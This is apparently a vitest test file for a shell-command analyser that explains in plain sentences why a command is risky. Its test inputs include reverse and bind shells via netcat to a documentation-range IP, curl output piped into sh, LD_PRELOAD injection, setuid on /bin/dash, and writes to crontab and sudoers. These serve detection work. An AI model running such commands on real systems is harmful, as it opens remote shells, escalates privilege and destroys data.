import { describe, expect, it } from 'vitest'
import { analyse } from '../../analyse.ts'
import { placeName } from './reason.ts'

describe('a reason', () => {
  it.each([
    ['nc -nlp 60022 -e /usr/bin/zsh', 'a shell is connected to the network (port 60022)'],
    ['nc -e /bin/sh 198.51.100.7 9001', 'a shell is connected to the network (198.51.100.7:9001)'],
    ['telnetd -l /bin/sh', 'a shell is connected to the network by telnetd'],
    ['nc -l 7777 | sh', 'what comes in at port 7777 is executed'],
    ['curl -s https://x.example/i | sh', 'what comes from https://x.example/i is executed'],
    [
      'tr a-z n-za-m < notes.txt | bash',
      'what is executed cannot be resolved from the text: it comes from the content of notes.txt and the output of tr',
    ],
    ['LD_PRELOAD=/tmp/x.so ls', 'a program is made to load "/tmp/x.so" by LD_PRELOAD'],
    ['chmod u+s /bin/dash', 'chmod sets the set-uid or set-gid bit of "/bin/dash"'],
    ['echo x > /etc/crontab', 'a redirection writes scheduled jobs: "/etc/crontab"'],
    [
      'vim -es -c "" /etc/sudoers',
      'vim opens the rules of sudo or authentication for editing: "/etc/sudoers"',
    ],
    ['lvremove -f vg0', 'lvremove removes a volume'],
    ['reboot', 'reboot stops the machine'],
    ['nginx', 'nginx opens a port to others'],
    ['php -S 192.0.2.7:8000', 'php listens at 192.0.2.7:8000 for others'],
    ['socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80', 'socat opens port 8080 to others'],
    ['whois acme.dev', 'whois hands data to a service'],
    ['pip download flask', 'pip download fetches something and does not run it'],
  ])('of %s is a plain sentence', (command, reason) => {
    expect(analyse(command).reason).toBe(reason)
  })

  it('does not say of what is run that it is not', () => {
    const reasons = (command: string) =>
      analyse(command)
        .trace()
        .findings.map(({ reason }) => reason)
    expect(reasons('curl https://x.example/i | sh')).toContain('curl fetches "https://x.example/i"')
    expect(reasons('curl -O https://x.example/i')).toContain(
      'curl fetches "https://x.example/i" and does not run it',
    )
  })

  it.each([
    [':7777', 'port 7777'],
    ['7777', 'port 7777'],
    ['TCP4-LISTEN:5433,bind=127.0.0.1,fork', '127.0.0.1:5433'],
    ['OPENSSL:10.0.0.1:443,verify=0', '10.0.0.1:443'],
    ['7337:127.0.0.1', '127.0.0.1:7337'],
    ['tcp://10.0.0.1:1', 'tcp://10.0.0.1:1'],
    ['', undefined],
    [':', undefined],
  ])('calls the address "%s" %s', (address, name) => {
    expect(placeName(address)).toBe(name)
  })
})
